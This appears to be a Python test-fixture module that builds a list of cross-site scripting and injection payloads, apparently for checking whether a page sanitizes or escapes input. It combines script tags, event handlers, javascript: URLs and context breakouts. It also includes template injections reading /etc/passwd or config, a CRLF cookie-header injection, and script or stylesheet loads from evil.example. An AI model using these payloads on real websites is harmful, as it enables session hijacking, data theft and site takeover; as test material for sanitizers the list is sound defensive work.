"""Texts that would run a script somewhere if a page let them through as they are."""

from itertools import product

# What would run, by where it stands: between tags, inside an attribute, as an address, in a script, in a template language.
_BARE = (
    "<script>hit()</script>", "<ScRiPt>hit()</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x>",
    "<body onload=hit()>", "<iframe srcdoc='<script>hit()</script>'>", "<iframe src=javascript:hit()>", "<details open ontoggle=hit()>",
    "<video><source onerror=hit()>", "<math><mi xlink:href=javascript:hit()>x", "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<form><button formaction=javascript:hit()>x", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<link rel=stylesheet href=//evil.example/x.css>", "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>", "<a href=javascript:hit()>x</a>", "<a href='jav&#x09;ascript:hit()'>x</a>", "<input autofocus onfocus=hit()>",
    "<select onfocus=hit() autofocus>", "<textarea onfocus=hit() autofocus>", "<marquee onstart=hit()>", "<xss id=x tabindex=1 onfocus=hit()></xss>",
    "<button hx-get=/logout hx-trigger=load>x", "<div hx-on:click=hit()>x</div>", "<div data-hx-get=/ data-hx-trigger=load>", "<div x-data=hit() x-init=hit()>",
    "<hx-partial hx-target=body><script>hit()</script></hx-partial>", "<template x-if=hit()>", "<style>@import '//evil.example'</style>",
    "<!--><script>hit()</script-->", "<![CDATA[<script>hit()</script>]]>", "<?xml version='1.0'?><script>hit()</script>", "<plaintext>",
)  # fmt: skip
_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "--></option></select>",
    "]]>",
    "</style>",
    "\u2028",
)
_TEMPLATES = ("{{ 7*7 }}", "{% include '/etc/passwd' %}", "${hit()}", "#{hit()}", "{{ config }}", "{{ ''.__class__ }}", "<%= hit() %>", "javascript:hit()", "data:text/html,<script>hit()</script>", '" onmouseover=hit() x="', "' onfocus=hit() autofocus x='", "` onerror=hit()", "&lt;script&gt;hit()&lt;/script&gt;", "\\u003cscript\\u003ehit()", "\u202e<script>hit()</script>", "x\r\nSet-Cookie: a=b")  # fmt: skip
PAYLOADS = tuple(dict.fromkeys([f"{before}{bare}" for before, bare in product(_BREAKOUTS, _BARE)] + list(_TEMPLATES)))
